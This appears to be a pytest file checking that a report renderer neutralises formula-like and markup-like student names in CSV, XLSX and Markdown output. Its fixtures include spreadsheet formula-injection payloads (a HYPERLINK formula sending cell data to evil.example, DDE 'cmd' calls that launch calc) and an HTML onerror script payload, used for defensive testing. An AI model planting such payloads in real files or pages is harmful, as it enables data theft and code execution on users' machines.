"""reports/render.py without a database: names that look like formulas or markup come out as
text in CSV, XLSX and Markdown (tests/reports/test_cli.py checks the formats cell by cell on a
real term)."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest

from reports.domain import NOT_ENROLLED, LectureReport, SessionColumn, StudentRow, Tally
from reports.render import csv_cell, markdown_text, render

DAY = datetime.date(2024, 3, 4)
TALLY = Tally(1, 0, 0, 0, 0, 100.0)
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def report_with(names) -> LectureReport:
    students = tuple(
        StudentRow(f"2019110{n:02d}", name, DAY, ("P", NOT_ENROLLED), TALLY) for n, name in enumerate(names)
    )
    sessions = (SessionColumn(1, DAY, False, TALLY), SessionColumn(2, DAY + datetime.timedelta(7), False, TALLY))
    return LectureReport("ea0017_1", "Title <b>x</b>", None, None, 0.5, sessions, students)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_cells_that_start_like_a_formula_get_a_quote_in_front():
    rows = csv_rows(render(report_with(HOSTILE_NAMES + ("Kim = Lee", "김민준")), "csv"))
    names = [row[1] for row in rows[1:]]
    assert names[: len(HOSTILE_NAMES)] == ["'" + name for name in HOSTILE_NAMES]
    assert names[len(HOSTILE_NAMES) :] == ["Kim = Lee", "김민준"]  # not at the start: unchanged
    # the report's own "-" (not enrolled yet) and the numbers stay as they are
    assert [row[2:4] for row in rows[1:]] == [["P", "-"]] * (len(HOSTILE_NAMES) + 2)
    assert rows[1][-1] == "100.0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_character_of_owasp(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("x" + start) == "x" + start
    assert csv_cell(-1.5) == "-1.5"  # a number is not text a spreadsheet could run


def test_xlsx_cells_stay_text():  # already so before: kept so
    book = openpyxl.load_workbook(io.BytesIO(render(report_with(HOSTILE_NAMES), "xlsx")))
    cells = [row[1] for row in book["Attendance"].iter_rows(min_row=2)]
    # (the XML of the file turns a carriage return into a line feed)
    assert [c.value for c in cells] == [name.replace("\r", "\n") for name in HOSTILE_NAMES]
    assert {c.data_type for c in cells} == {"s"}


def test_markdown_shows_names_as_written_never_as_html_or_markup():
    names = ("<img src=x onerror=alert(1)>", "[click](http://evil.example)", "**bold** | x", "a & b", "`code`")
    text = render(report_with(names), "md").decode("utf-8")
    assert "<img" not in text and "<b>" not in text  # no HTML passes through, the title's neither
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "Title &lt;b&gt;x&lt;/b&gt;" in text
    assert "\\[click\\](http://evil.example)" in text
    assert "\\*\\*bold\\*\\* \\| x" in text
    assert "a &amp; b" in text and "\\`code\\`" in text
    rows = [line for line in text.splitlines() if line.startswith("| 2019")]
    assert all(line.count(" | ") == rows[0].count(" | ") for line in rows)  # no cell split by a "|"


def test_markdown_text_keeps_plain_names():
    assert markdown_text("김민준") == "김민준"
    assert markdown_text("O'Brien-Smith") == "O'Brien-Smith"
    assert markdown_text("two\nlines") == "two lines"
